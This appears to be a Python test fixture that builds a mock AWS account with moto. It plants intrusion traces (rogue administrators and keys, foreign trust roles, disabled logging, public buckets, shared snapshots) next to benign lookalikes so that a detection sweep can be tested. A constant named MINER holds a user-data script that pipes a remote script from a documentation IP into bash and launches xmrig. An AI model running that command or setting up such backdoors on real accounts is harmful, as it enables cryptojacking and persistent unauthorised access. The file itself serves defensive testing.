"""An account at the stand in which an intruder has done everything that a check of the live sweep looks for, beside what only looks alike."""

from __future__ import annotations

import gzip
import io
import json
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from moto.awslambda.models import lambda_backends
from moto.iam.models import iam_backends
from moto.kms.models import kms_backends

from tenantry.places import SHIPPED
from tests.support.aws_access_gaps import Root
from tests.support.aws_gaps import record
from tests.support.aws_stand import ELSEWHERE, REGIONS, Account

STRANGER, VENDOR, HUB, LOGS = "999988887777", "444455556666", "222233334444", "333344445555"
ALL = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
MINER = "#!/bin/bash\ncurl -s http://203.0.113.9/x.sh | bash\n./xmrig -o stratum+tcp://203.0.113.9:3333\n"
ORDINARY = "#!/bin/bash\napt-get update && apt-get install -y nginx\ncurl -fsSL https://get.docker.com | sh\n"


@dataclass
class Planted:
    """What was made."""

    guilty: set[str] = field(default_factory=set)
    innocent: set[str] = field(default_factory=set)
    """Ids of entities."""


def letting_in(who: str, **condition: Any) -> str:
    """A trust policy."""
    statement: dict[str, Any] = {"Effect": "Allow", "Principal": {"AWS": who}, "Action": "sts:AssumeRole"}
    return json.dumps(
        {"Version": "2012-10-17", "Statement": [statement | ({"Condition": condition} if condition else {})]}
    )


def plant(account: Account, now: datetime) -> Planted:
    """Everything. ``now``: of the sweep; what is made counts as new."""
    made = Planted()
    _access(account, made, now - timedelta(days=200))
    _watch(account, made, now)
    _machines(account, made)
    _data(account, made)
    _functions(account, made)
    account.stand.gaps.events[account.id] += list(logged(now))
    return made


def age(account: Account, user: str, at: datetime, *keys: datetime) -> None:
    """A user, and its keys, are older than the test."""
    held = iam_backends[account.id]["aws"].users[user]
    held.create_date = at
    for key, made in zip(held.access_keys, keys, strict=True):
        key.create_date = made


def second_factor(account: Account, user: str) -> None:
    iam = account.client("iam")
    serial = iam.create_virtual_mfa_device(VirtualMFADeviceName=user)["VirtualMFADevice"]["SerialNumber"]
    iam.enable_mfa_device(
        UserName=user, SerialNumber=serial, AuthenticationCode1="123456", AuthenticationCode2="654321"
    )


def _access(account: Account, made: Planted, old: datetime) -> None:
    iam, gaps = account.client("iam"), account.stand.gaps.access
    now = datetime.now(UTC)
    gaps.roots[account.id] = Root(mfa=False, keys=1, password_used_at=now, key_used_at=now)
    wide = iam.create_policy(PolicyName="everything", PolicyDocument=json.dumps(ALL))["Policy"]["Arn"]
    # Theirs: a new administrator with a key, a second key and a password on a program's user, a key for an old administrator.
    for name in ("svc-new", "ci", "boss", "inline"):
        iam.create_user(UserName=name)
    iam.attach_user_policy(UserName="svc-new", PolicyArn=wide)
    iam.create_access_key(UserName="svc-new")
    for _ in range(2):
        iam.create_access_key(UserName="ci")
    iam.create_login_profile(UserName="ci", Password="Their-passw0rd!x")
    age(account, "ci", old, old, now)
    gaps.passwords[account.id, "ci"] = now
    iam.attach_user_policy(UserName="boss", PolicyArn=wide)
    iam.create_access_key(UserName="boss")
    age(account, "boss", old, now)
    iam.put_user_policy(UserName="inline", PolicyName="x", PolicyDocument=json.dumps(ALL))
    age(account, "inline", old)
    # Innocent: a program with one old key, a person with a password and a second factor who changed it, a key that was exchanged.
    for name in ("deploy", "kim", "rotated"):
        iam.create_user(UserName=name)
    iam.create_access_key(UserName="deploy")
    age(account, "deploy", old, old)
    iam.create_login_profile(UserName="kim", Password="Own-passw0rd!x")
    second_factor(account, "kim")
    age(account, "kim", old)
    gaps.passwords[account.id, "kim"] = now
    first = iam.create_access_key(UserName="rotated")["AccessKey"]["AccessKeyId"]
    iam.create_access_key(UserName="rotated")
    iam.update_access_key(UserName="rotated", AccessKeyId=first, Status="Inactive")
    age(account, "rotated", old, old, now)
    made.guilty |= {f"arn:aws:iam::{account.id}:user/{name}" for name in ("svc-new", "ci", "boss", "inline")}
    made.innocent |= {f"arn:aws:iam::{account.id}:user/{name}" for name in ("deploy", "kim", "rotated")}
    _roles(account, made, wide)
    anchor = f"arn:aws:rolesanywhere:{REGIONS[0]}:{account.id}:trust-anchor/00000000-0000-0000-0000-000000000001"
    gaps.anchors[account.id, REGIONS[0]] = [
        {
            "trustAnchorArn": anchor,
            "trustAnchorId": anchor.rpartition("/")[2],
            "name": "theirs",
            "enabled": True,
            "source": {"sourceType": "CERTIFICATE_BUNDLE"},
            "createdAt": now.isoformat(),
            "updatedAt": now.isoformat(),
        }
    ]
    made.guilty.add(anchor)


def _roles(account: Account, made: Planted, wide: str) -> None:
    iam = account.client("iam")
    github = iam.create_open_id_connect_provider(
        Url="https://token.actions.githubusercontent.com", ClientIDList=["sts.amazonaws.com"], ThumbprintList=["0" * 40]
    )["OpenIDConnectProviderArn"]

    def workflow(**more: Any) -> str:
        condition = {"StringEquals": {"token.actions.githubusercontent.com:aud": "sts.amazonaws.com"}, **more}
        statement = {
            "Effect": "Allow",
            "Principal": {"Federated": github},
            "Action": "sts:AssumeRoleWithWebIdentity",
            "Condition": condition,
        }
        return json.dumps({"Version": "2012-10-17", "Statement": [statement]})

    trusts = {
        "theirs": letting_in(f"arn:aws:iam::{STRANGER}:root"),
        "anyflow": workflow(),
        "hub": letting_in(f"arn:aws:iam::{HUB}:root"),
        "ownflow": workflow(StringLike={"token.actions.githubusercontent.com:sub": "repo:acme/app:*"}),
        "inside": letting_in(f"arn:aws:iam::{account.id}:root"),
    }
    for name, trust in trusts.items():
        iam.create_role(RoleName=name, AssumeRolePolicyDocument=trust)
    iam.attach_role_policy(RoleName="theirs", PolicyArn=wide)
    iam.create_service_linked_role(AWSServiceName="autoscaling.amazonaws.com")
    saml = "<md>" + "x" * 1000 + "</md>"
    theirs = iam.create_saml_provider(Name="theirs", SAMLMetadataDocument=saml)["SAMLProviderArn"]
    center = iam.create_saml_provider(Name="AWSSSO_0123456789abcdef_DO_NOT_DELETE", SAMLMetadataDocument=saml)
    made.guilty |= {theirs, *(f"arn:aws:iam::{account.id}:role/{name}" for name in ("theirs", "anyflow"))}
    made.innocent.add(center["SAMLProviderArn"])
    names = ("hub", "ownflow", "inside", account.role, "AWSServiceRoleForAutoScaling")
    made.innocent |= {f"arn:aws:iam::{account.id}:role/{name}" for name in names}


def _watch(account: Account, made: Planted, now: datetime) -> None:
    s3, trails, config = (account.client(name) for name in ("s3", "cloudtrail", "config"))
    bucket = f"trail-{account.id}"
    s3.create_bucket(Bucket=bucket, CreateBucketConfiguration={"LocationConstraint": REGIONS[0]})
    rule = {"ID": "all", "Status": "Enabled", "Filter": {"Prefix": ""}, "Expiration": {"Days": 1}}
    s3.put_bucket_lifecycle_configuration(Bucket=bucket, LifecycleConfiguration={"Rules": [rule]})
    for name in ("stopped", "narrow"):
        made.guilty.add(trails.create_trail(Name=name, S3BucketName=bucket, IsMultiRegionTrail=True)["TrailARN"])
    trails.start_logging(Name="narrow")
    objects = {"ReadWriteType": "All", "IncludeManagementEvents": False}
    objects["DataResources"] = [{"Type": "AWS::S3::Object", "Values": ["arn:aws:s3"]}]
    reads = {"ReadWriteType": "ReadOnly", "IncludeManagementEvents": True}
    trails.put_event_selectors(TrailName="narrow", EventSelectors=[reads, objects])
    at = now - timedelta(days=1)
    deleted = [
        record(
            "DeleteObject", at + timedelta(seconds=n), source="s3", account=account.id, region=REGIONS[0],
            request={"bucketName": "files", "key": f"{n}"}, managementEvent=False, eventCategory="Data",
        )
        for n in range(220)
    ]  # fmt: skip
    key = f"AWSLogs/{account.id}/CloudTrail/{REGIONS[0]}/{at:%Y/%m/%d}/x.json.gz"
    s3.put_object(Bucket=bucket, Key=key, Body=gzip.compress(json.dumps({"Records": deleted}).encode()))
    account.client("guardduty").create_detector(Enable=False)
    config.put_configuration_recorder(
        ConfigurationRecorder={"name": "default", "roleARN": f"arn:aws:iam::{account.id}:role/c"}
    )
    names = account.client("route53resolver").create_resolver_query_log_config(
        Name="names", DestinationArn=f"arn:aws:s3:::{bucket}", CreatorRequestId="1"
    )["ResolverQueryLogConfig"]["Id"]
    made.guilty |= {bucket, f"guardduty/{REGIONS[0]}", f"default/{REGIONS[0]}", names}
    account.stand.gaps.access.consoles.add((account.id, REGIONS[0]))


def run(account: Account, region: str, script: str, kind: str = "t3.micro") -> str:
    """Start an instance."""
    started = account.client("ec2", region).run_instances(
        ImageId="ami-12c6146b", MinCount=1, MaxCount=1, UserData=script, InstanceType=kind
    )
    return str(started["Instances"][0]["InstanceId"])


def opened(account: Account, name: str, port: int, cidr: str = "0.0.0.0/0") -> str:
    """A security group."""
    ec2 = account.client("ec2")
    group = str(ec2.create_security_group(GroupName=name, Description=name)["GroupId"])
    ec2.authorize_security_group_ingress(GroupId=group, IpProtocol="tcp", FromPort=port, ToPort=port, CidrIp=cidr)
    return group


def _machines(account: Account, made: Planted) -> None:
    made.guilty |= {
        run(account, REGIONS[0], MINER),
        run(account, ELSEWHERE, "", "p3.16xlarge"),
        opened(account, "ssh", 22),
    }
    made.innocent |= {run(account, REGIONS[0], ORDINARY)}
    made.innocent |= {opened(account, "web", 443), opened(account, "office", 22, "198.51.100.0/24")}
    for whom, kind in ((STRANGER, made.guilty), (LOGS, made.innocent)):
        kind |= shared_disks(account, whom)


def shared_disks(account: Account, whom: str) -> set[str]:
    """A snapshot, an image and a database's snapshot, each shared."""
    ec2, rds = account.client("ec2"), account.client("rds")
    volume = ec2.create_volume(AvailabilityZone=f"{REGIONS[0]}a", Size=1)["VolumeId"]
    snapshot = ec2.create_snapshot(VolumeId=volume)["SnapshotId"]
    ec2.modify_snapshot_attribute(
        SnapshotId=snapshot, Attribute="createVolumePermission", OperationType="add", UserIds=[whom]
    )
    image = ec2.register_image(Name=f"image-{account.id}-{whom}", RootDeviceName="/dev/sda1")["ImageId"]
    ec2.modify_image_attribute(ImageId=image, LaunchPermission={"Add": [{"UserId": whom}]})
    rds.create_db_instance(
        DBInstanceIdentifier=f"db-{whom}",
        DBInstanceClass="db.t3.micro",
        Engine="postgres",
        MasterUsername="u",
        MasterUserPassword="canary-db-passw0rd",
        AllocatedStorage=20,
    )
    dump = f"dump-{whom}"
    made = rds.create_db_snapshot(DBInstanceIdentifier=f"db-{whom}", DBSnapshotIdentifier=dump)["DBSnapshot"]
    rds.modify_db_snapshot_attribute(DBSnapshotIdentifier=dump, AttributeName="restore", ValuesToAdd=[whom])
    return {snapshot, image, made["DBSnapshotArn"]}


def bucket(account: Account, name: str, *actions: str, principal: Any = "*", **condition: Any) -> str:
    """A bucket with a policy; no actions: without one."""
    s3, full = account.client("s3"), f"{name}-{account.id}"
    s3.create_bucket(Bucket=full, CreateBucketConfiguration={"LocationConstraint": REGIONS[0]})
    if actions:
        statement: dict[str, Any] = {
            "Effect": "Allow",
            "Principal": principal,
            "Action": list(actions),
            "Resource": [f"arn:aws:s3:::{full}", f"arn:aws:s3:::{full}/*"],
        }
        policy = {"Version": "2012-10-17", "Statement": [statement | ({"Condition": condition} if condition else {})]}
        s3.put_bucket_policy(Bucket=full, Policy=json.dumps(policy))
    return full


def _data(account: Account, made: Planted) -> None:
    s3, kms = account.client("s3"), account.client("kms")
    public = bucket(account, "public", "s3:GetObject", "s3:PutObject", "s3:ListBucket")
    given = bucket(account, "given", "s3:GetObject", principal={"AWS": f"arn:aws:iam::{STRANGER}:root"})
    s3.put_bucket_versioning(Bucket=given, VersioningConfiguration={"Status": "Suspended"})
    doomed, imported, fine = (kms.create_key()["KeyMetadata"]["KeyId"] for _ in range(3))
    kms.schedule_key_deletion(KeyId=doomed, PendingWindowInDays=7)
    kms_backends[account.id][REGIONS[0]].keys[imported].origin = "EXTERNAL"
    made.guilty |= {public, given, doomed, imported}
    made.innocent |= {
        bucket(account, "plain"),
        bucket(account, "logs", "s3:PutObject", principal={"AWS": f"arn:aws:iam::{LOGS}:root"}),
        bucket(account, "own", "s3:GetObject", StringEquals={"aws:SourceAccount": account.id}),
        fine,
    }


def function(account: Account, name: str) -> str:
    """A function."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as file:
        file.writestr("a.py", "def b(event, context): return 1\n")
    iam = account.client("iam")
    role = iam.create_role(RoleName=f"fn-{name}", AssumeRolePolicyDocument=json.dumps({"Statement": []}))["Role"]["Arn"]
    made = account.client("lambda").create_function(
        FunctionName=name, Runtime="python3.12", Role=role, Handler="a.b", Code={"ZipFile": held.getvalue()}
    )
    return str(made["FunctionArn"])


def lend(account: Account, name: str, owner: str) -> str:
    """The function loads a layer of another account's: moto takes the account's own alone, so it is changed behind its door."""
    layer = f"arn:aws:lambda:{REGIONS[0]}:{owner}:layer:lent:1"
    lambda_backends[account.id][REGIONS[0]].get_function(name).layers = [{"Arn": layer, "CodeSize": 1}]
    return layer


def _functions(account: Account, made: Planted) -> None:
    lambdas = account.client("lambda")
    made.guilty |= {function(account, "called"), function(account, "layered")}
    lambdas.add_permission(FunctionName="called", StatementId="x", Action="lambda:InvokeFunction", Principal=STRANGER)
    lend(account, "layered", STRANGER)
    made.innocent |= {function(account, "api"), function(account, "insights")}
    lambdas.add_permission(
        FunctionName="api",
        StatementId="x",
        Action="lambda:InvokeFunction",
        Principal="apigateway.amazonaws.com",
        SourceArn=f"arn:aws:execute-api:{REGIONS[0]}:{account.id}:x/*",
    )
    lend(account, "insights", "580247275435")


def stories(rule: str, kind: str) -> list[list[dict[str, Any]]]:
    """The events that lie beside a detection: ``true_positives`` or ``true_negatives``, each story by itself."""
    path = Path(SHIPPED) / "detections" / "aws" / f"{rule}.events.json"
    return list(json.loads(path.read_text(encoding="utf-8"))[kind])


def examples(rule: str) -> list[dict[str, Any]]:
    """All that it finds."""
    return [one for story in stories(rule, "true_positives") for one in story]


def logged(now: datetime) -> Iterator[dict[str, Any]]:
    """What every detection of ours is written for, in the last days."""
    for path in sorted((Path(SHIPPED) / "detections" / "aws").glob("*.yml")):
        records = examples(path.stem)
        latest = max(datetime.fromisoformat(one["eventTime"]) for one in records)
        for one in records:
            at = now - timedelta(days=1) - (latest - datetime.fromisoformat(one["eventTime"]))
            yield one | {"eventTime": at.strftime("%Y-%m-%dT%H:%M:%SZ")}
